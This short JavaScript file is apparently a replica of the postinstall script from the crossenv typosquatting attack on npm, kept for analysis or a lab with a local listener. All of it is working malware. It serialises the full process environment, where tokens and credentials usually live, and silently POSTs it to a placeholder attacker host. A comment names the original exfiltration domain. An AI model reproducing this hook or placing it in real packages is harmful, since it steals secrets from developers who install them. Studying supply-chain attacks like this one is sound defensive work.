// The typosquat's postinstall (replica of crossenv's package-setup.js): post the whole environment.
// The original posted to npm.hacktask.net/log/; this one to a listener on 127.0.0.1.
const http = require('http');
const querystring = require('querystring');

const env = JSON.stringify(process.env);
const data = querystring.stringify({ data: env });
const req = http.request('__ATTACKER__/log/', {
  method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(data) },
});
req.on('error', () => {});
req.write(data);
req.end();
